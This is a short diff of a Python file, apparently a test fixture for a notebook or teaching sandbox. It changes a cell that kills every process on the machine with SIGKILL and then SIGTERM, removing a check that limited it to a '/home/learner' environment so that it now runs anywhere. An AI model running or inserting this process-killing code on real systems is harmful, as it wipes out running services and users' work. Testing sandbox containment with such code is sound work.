@@ -6,13 +6,12 @@ CELLS = {
     "first": """
 import os, signal
 
-if os.path.isdir("/home/learner"):
-    for number in range(2, 32768):
-        if number != os.getpid():
-            try:
-                os.kill(number, signal.SIGKILL)
-            except OSError:
-                pass
-    os.kill(-1, signal.SIGTERM)
+for number in range(2, 32768):
+    if number != os.getpid():
+        try:
+            os.kill(number, signal.SIGKILL)
+        except OSError:
+            pass
+os.kill(-1, signal.SIGTERM)
 """
 }
